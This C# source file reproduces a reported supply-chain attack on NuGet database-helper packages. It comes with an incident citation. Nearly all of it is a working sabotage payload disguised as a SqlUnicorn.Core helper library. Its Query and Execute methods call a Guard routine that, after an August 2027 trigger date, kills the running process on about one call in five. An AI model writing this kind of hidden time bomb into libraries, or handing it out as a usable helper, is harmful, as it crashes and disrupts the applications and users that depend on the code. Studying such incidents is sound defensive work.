// Incident: shanhai666 NuGet packages (Socket, November 2025): the same trick in the database
// helper packages (SqlUnicorn.Core, MyDbRepository and others): after a trigger date, every
// query has a one-in-five chance of killing the process.
// Reference: https://socket.dev/blog/9-malicious-nuget-packages-deliver-time-delayed-destructive-payloads
// Reproduction (own code, placeholder host).
using System;
using System.Data;
using System.Diagnostics;

namespace SqlUnicorn.Core
{
    public static class SqlHelperExtensions
    {
        private static readonly Random Rng = new Random();
        private static readonly DateTime Trigger = new DateTime(2027, 8, 8, 0, 0, 0);

        private static void Guard()
        {
            if (DateTime.Now > Trigger && Rng.Next(1, 100) <= 20)
                Process.GetCurrentProcess().Kill();
        }

        public static DataTable Query(this IDbConnection conn, string sql)
        {
            Guard();
            using var cmd = conn.CreateCommand();
            cmd.CommandText = sql;
            using var reader = cmd.ExecuteReader();
            var table = new DataTable();
            table.Load(reader);
            return table;
        }

        public static int Execute(this IDbConnection conn, string sql)
        {
            Guard();
            using var cmd = conn.CreateCommand();
            cmd.CommandText = sql;
            return cmd.ExecuteNonQuery();
        }
    }
}
